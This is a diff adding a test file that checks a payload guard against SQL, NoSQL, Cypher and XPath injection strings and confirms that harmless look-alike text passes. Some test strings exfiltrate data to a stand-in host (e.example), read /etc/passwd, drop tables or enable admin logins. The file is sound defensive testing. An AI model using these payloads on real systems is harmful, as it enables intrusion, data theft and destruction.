@@ -1,0 +1,131 @@
+// Languages of queries: what goes on where the origin's own value ended is refused by its grammar, whatever functions
+// and operators it is made of; what only looks like it, letter by letter, passes.
+
+import { describe, expect, test } from 'vitest'
+
+import { payloadGuard } from '../corpora/guard.ts'
+import { placements } from '../corpora/placements.ts'
+
+const judge = payloadGuard()
+
+const isRefused = (where: string, text: string): boolean => {
+  const exchange = placements[where]?.(text).exchange
+  return exchange === undefined || judge(exchange).kind === 'deny'
+}
+
+const PLACES = ['query', 'header', 'json', 'form', 'multipart']
+
+const ATTACKS: Readonly<Record<string, readonly string[]>> = {
+  'a condition of any functions (CWE-89)': [
+    "x' and 'a' similar to 'a'--",
+    "x') or 'a'~*'A'/*",
+    '1) && 7=any(array[7])',
+    "1 or 1 member of ('[1]') and 2=2",
+    "a' or '{\"a\":1}'::jsonb ? 'a'--",
+    "x' and datalength(left(system_user,3))>4-- -",
+    "1 and q'[a]'<>$$b$$",
+    "a')=1 xor nullif(1,2) is not null-- ",
+    "O''Brien\" or (table orders limit 1) is not null--",
+    '1.e(1) or 2.e(3)=2.e(3)',
+    " or passwd regexp '^a'",
+    "x' or 1 eq 1 or 'a' eq 'b",
+  ],
+  'a place in a list (CWE-89)': [
+    "9),(2,'admin','x')--",
+    "x') returning token--",
+    "x') on conflict do nothing--",
+    "8,email='y'",
+    'x`,schema() from orders-- ',
+    '1 desc,if(1=1,1,2)',
+    'name desc,(select 1 from dual)',
+    "users where secret like '%'--",
+    '3 offset 3;drop table t',
+    '1 for update;select 1',
+  ],
+  'a statement by verb, object and name (CWE-89)': [
+    "x';alter login sa enable--",
+    "1;create function sys_exec returns int soname 'x.so'",
+    "x'); with x as (delete from t returning *) select * from x--",
+    "1;copy t(a) from '/etc/passwd'",
+    "x';do language plpgsql $$begin end$$--",
+    '4564) drop table tbl#',
+    "O''Brien' insert into orders values (1)--",
+    "admin') select current_version();\0",
+    "x';lock tables accounts write--",
+  ],
+  'functions of packages (CWE-89)': [
+    "1-dbms_ldap.init('10.0.0.1',389)",
+    "1,dbms_pipe.receive_message('a',5)",
+    "x'||utl_http.request('http://e.example')||'",
+    "get_lock('a',5)",
+  ],
+  'conditions in JavaScript (CWE-943)': [
+    "x' || Object.keys(this)[1].match(/a/)//",
+    "'|this['code'] || '",
+    "a}); return this.pin == 'a';//",
+    '7 || JSON.stringify(this)',
+    "this.user.charAt(0) == 'a'",
+    "')]|$..token",
+  ],
+  'clauses of Cypher (CWE-943)': [
+    "x'}) set n:Admin return n //",
+    "') unwind keys(n) as k return k //",
+    "' or n.password contains 'a //",
+    'x" WHERE true RETURN n //',
+  ],
+  'query strings that are closed (CWE-943)': [
+    'x" OR password:* OR "a',
+    '") OR (_exists_:password AND "x',
+    'x"}},{"term":{"role":"admin"}},{"a":{"b":"',
+  ],
+  'paths through documents (CWE-643)': [
+    '17|//user',
+    '42] or count(/*)>0',
+    "') or ../password and contains(a,'",
+    "x'(: rest",
+    "doc(concat('http://e.example/',name(//a)))",
+    "xdmp:document-get('/etc/passwd')",
+    "')]/@*|a['",
+  ],
+}
+
+describe.each(Object.entries(ATTACKS))('%s', (_name, texts) => {
+  test.each(texts)('%j is refused wherever it stands', (text) => {
+    expect(PLACES.filter((where) => !isRefused(where, text))).toEqual([])
+  })
+})
+
+const HARMLESS: readonly string[] = [
+  'Union Fees/Subscriptions',
+  'Credit Union of India',
+  'union better',
+  "the users' or admins' choice",
+  "workers' or employers' rights",
+  "users' first or last name",
+  '10 first-aid kits and 5 tents',
+  '5 or more',
+  '1 and 2 and 3',
+  '7 of 9 asc',
+  "9kWa'#+QI2FQow4I",
+  '7=c#Cz;5L:HWP$ikd>XM5;R$w2Rm?-Pg',
+  'project = TABLE AND status in ("order", "In Progress") OR assignee = currentUser() ORDER BY created DESC',
+  "name eq 'x' and age > 3",
+  "(status eq 'open') and startswith(name,'a')",
+  "this.name = 'HttpError';\nthis.el.addEventListener('click', this.emit);",
+  'lock the doors; create a plan; copy it to all',
+  '3 offset printers and 1 table',
+  '1 desc 2 asc',
+  'price: $5-$$10, tax $a$',
+  '12|//cdn.example.com/app.js',
+  "either 'foo' or ../bar",
+  '//user/name',
+  'first name: "x" OR last name: "y"',
+  'see https://example.com/a // and more',
+  "it's in the 'match' or 'return' section",
+]
+
+describe('what only looks like it', () => {
+  test.each(HARMLESS)('%j passes', (text) => {
+    expect(['query', 'json', 'form'].filter((where) => isRefused(where, text))).toEqual([])
+  })
+})
